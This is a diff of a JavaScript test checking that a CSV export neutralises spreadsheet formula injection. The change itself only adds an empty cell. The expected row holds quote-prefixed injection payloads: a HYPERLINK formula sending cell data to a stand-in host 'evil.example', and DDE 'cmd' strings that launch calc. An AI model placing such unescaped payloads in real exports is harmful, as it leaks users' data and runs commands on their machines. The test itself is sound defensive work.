@@ -108,7 +108,7 @@ t.test('client-chosen request ids and seeded formulas export as text cells', asy
   const row = rows.find((r) => r[col('request_id')]!.includes('HYPERLINK'))!;
   t.strictSame(row, [
     '\'=HYPERLINK("http://evil.example/?"&A1,"click")', new Date(at).toISOString(), "'@SUM(A1:A9)", '\'+cmd|\' /C calc\'!A0', "'=1+team",
-    '\'-2+3+cmd|\' /C calc\'!A0', "'\tprov", "'\r=1", "''already quoted", "'-1", '1', '0', '2', '3', 'upstream', "'-3.5", '', '0', 'a,b', "'=1+user",
+    '\'-2+3+cmd|\' /C calc\'!A0', "'\tprov", "'\r=1", "''already quoted", "'-1", '1', '0', '2', '3', 'upstream', "'-3.5", '', '0', 'a,b', "'=1+user", '',
   ]);
   t.ok(run.out.includes('\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), 'quoted as RFC 4180 says, the mark inside the quotes');
 
